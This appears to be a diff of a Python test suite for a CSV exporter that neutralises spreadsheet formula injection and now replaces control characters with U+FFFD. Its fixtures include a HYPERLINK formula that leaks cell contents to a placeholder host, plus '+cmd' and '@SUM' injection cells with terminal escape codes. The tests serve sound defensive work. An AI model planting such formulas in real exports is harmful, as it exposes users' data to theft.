@@ -42,10 +42,10 @@ LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
         ("-0.5e3", "-0.5e3"),
         ("- a bulleted quote", "'- a bulleted quote"),
         ("a = b", "a = b"),
-        ("nul\x00here", "nulhere"),
-        ("\x1b[31mred\x1b[0m", "[31mred[0m"),
-        ("\x00=1", "'=1"),
-        ("csi\x9b2J", "csi2J"),
+        ("nul\x00here", "nul\ufffdhere"),
+        ("\x1b[31mred\x1b[0m", "\ufffd[31mred\ufffd[0m"),
+        ("\x00=1", "\ufffd=1"),
+        ("csi\x9b2J", "csi\ufffd2J"),
         ("'already text", "'already text"),
         ("", ""),
     ],
@@ -65,7 +65,7 @@ def test_csv_defuses_cells_anywhere_in_a_column_and_the_header(tmp_path: Path) -
             "=title": ["plain", CALC, "x,y", LINK, None, "-7"],
             "n": [1, 2, 3, 4, 5, 6],
             "f": [-0.5, 1.0, None, 2.0, -1e-9, 0.0],
-            "ctl": ["a\x00b", "c\x1bd", "e\x9bf", "g,\x00h", "Café\x00 😀", "\x1b\x9b+1"],
+            "ctl": ["a\x00b", "c\x1bd", "é\x9bf", "g,\x00h", "Café\x00 😀", "\x1b=1"],
         }
     )
     out = tmp_path / "t.csv"
@@ -74,7 +74,14 @@ def test_csv_defuses_cells_anywhere_in_a_column_and_the_header(tmp_path: Path) -
     assert rows[0] == ["'=title", "n", "f", "ctl"]
     assert [r[0] for r in rows[1:]] == ["plain", "'" + CALC, "x,y", "'" + LINK, "", "-7"]
     assert [r[2] for r in rows[1:]] == ["-0.5", "1.0", "", "2.0", "-1e-09", "0.0"]
-    assert [r[3] for r in rows[1:]] == ["ab", "cd", "ef", "g,h", "Café 😀", "+1"]
+    assert [r[3] for r in rows[1:]] == [
+        "a\ufffdb",
+        "c\ufffdd",
+        "é\ufffdf",
+        "g,\ufffdh",
+        "Café\ufffd 😀",
+        "\ufffd=1",
+    ]
     write_csv({"t": frame}, out, raw=True)
     rows = _read(out)
     assert [r[0] for r in rows[1:]] == ["plain", CALC, "x,y", LINK, "", "-7"]
@@ -105,10 +112,10 @@ def test_an_export_of_hostile_values_runs_nothing_and_raw_keeps_them(
     export_project(hostile, layer, "csv", safe, options)
     export_project(hostile, layer, "csv", raw, options, raw_csv=True)
     safe_row, raw_row = (dict(zip(*_read(p)[:2], strict=True)) for p in (safe, raw))
-    assert safe_row["memo"] == "'" + CALC
+    assert safe_row["memo"] == "'" + CALC + "\ufffd"
     assert raw_row["memo"] == CALC + "\x00"
     assert safe_row["speaker"] == "'@SUM(1+1)"
-    assert safe_row["event"] == "'+cmd[2J"
+    assert safe_row["event"] == "'+cmd\ufffd[2J"
     assert raw_row["event"] == "+cmd\x1b[2J"
     text = safe.read_text(encoding="utf-8")
     assert not re.search(r"(^|,)[=+\-@\t\r]", text.replace("\n", ",").replace('"', ""))
@@ -121,7 +128,7 @@ def test_the_command_line_switch_writes_raw_values(
 ) -> None:
     path, ana = hostile.path, hostile.coders.list()[0].uuid
     hostile.close()
-    for flag, memo in (([], "'" + CALC), (["--raw-csv"], CALC + "\x00")):
+    for flag, memo in (([], "'" + CALC + "\ufffd"), (["--raw-csv"], CALC + "\x00")):
         out = tmp_path / f"seg{len(flag)}.csv"
         argv = ["export", str(path), "--what", "segments", "--layer", ana, "--out", str(out)]
         assert main([*argv, *flag]) == 0, capsys.readouterr().err
